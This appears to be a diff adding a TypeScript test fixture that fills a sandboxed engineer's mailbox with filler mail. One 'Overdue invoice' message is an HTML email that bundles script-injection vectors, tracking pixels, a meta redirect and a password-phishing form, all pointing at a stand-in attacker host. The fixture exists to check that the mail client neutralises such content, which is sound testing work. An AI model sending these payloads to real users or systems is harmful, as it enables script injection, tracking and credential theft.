@@ -1,0 +1,47 @@
+// A mailbox for the walks: enough mail to scroll, some that names work orders, and one that means harm.
+import type { Sandbox } from '../../sandbox/server.ts';
+
+export const ENGINEER = 'chief.engineer@corvina.test';
+export const EVIL = 'https://tracker.evil.example';
+
+/** Everything a hostile sender tries, in one mail. `page.evaluate(() => window.hacked)` tells whether it worked. */
+const HOSTILE = `<html><head><style>@import url(${EVIL}/style.css); body{background:url(${EVIL}/bg.png)}</style>
+<meta http-equiv="refresh" content="0;url=${EVIL}/moved"><base href="${EVIL}/"><link rel="prefetch" href="${EVIL}/pre">
+</head><body onload="parent.hacked=1;alert('onload')">
+<script>parent.hacked = 1; alert('script')</script>
+<img src="${EVIL}/pixel.gif" width="1" height="1"><img src=x onerror="parent.hacked=1;alert('onerror')">
+<svg onload="parent.hacked=1;alert('svg')"><script>alert('svg script')</script></svg>
+<iframe src="javascript:parent.parent.hacked=1"></iframe><object data="${EVIL}/object"></object>
+<form action="${EVIL}/form"><input name="password"><button id="press">Sign in again</button></form>
+<a href="javascript:parent.hacked=1;alert('link')">The invoice</a>
+<video src="${EVIL}/v.mp4" autoplay></video><math href="javascript:alert(1)">x</math>
+<p style="position:fixed;inset:0;background:url('${EVIL}/fixed.png')">Please see the overdue invoice below.</p>
+</body></html>`;
+
+type Mail = { subject: string; html?: string; text?: string; minutesAgo: number; isRead?: boolean };
+
+/** Puts one mail into the engineer's inbox. */
+export function deliver(sandbox: Sandbox, { subject, html, text, minutesAgo, isRead = true }: Mail): void {
+  sandbox.store.deliver(ENGINEER, 'inbox', {
+    subject,
+    from: { name: 'Parts Desk Bergholt', address: 'parts@bergholt.example' },
+    to: [{ name: 'Ewan Traill', address: ENGINEER }],
+    receivedAt: new Date(Date.now() - minutesAgo * 60_000),
+    isRead,
+    body: {
+      contentType: html ? 'html' : 'text',
+      content: html ?? text ?? 'Please see below. Regards, the parts desk',
+    },
+  });
+}
+
+/** The mailbox as the walk finds it. */
+export function fillMailbox(sandbox: Sandbox): void {
+  sandbox.store.createMailbox({ address: ENGINEER, displayName: 'Ewan Traill' });
+  for (let n = 1; n <= 240; n += 1)
+    deliver(sandbox, { subject: `Consignment note ${n}`, minutesAgo: 600 + n * 90 });
+  deliver(sandbox, { subject: 'Offer for the seal kit, your WO-1042', minutesAgo: 300, isRead: false });
+  deliver(sandbox, { subject: 'Overdue invoice', html: HOSTILE, minutesAgo: 240, isRead: false });
+  deliver(sandbox, { subject: 'Photos of the leaking flange', minutesAgo: 200 });
+  deliver(sandbox, { subject: 'Attendance on board next week', minutesAgo: 180 });
+}
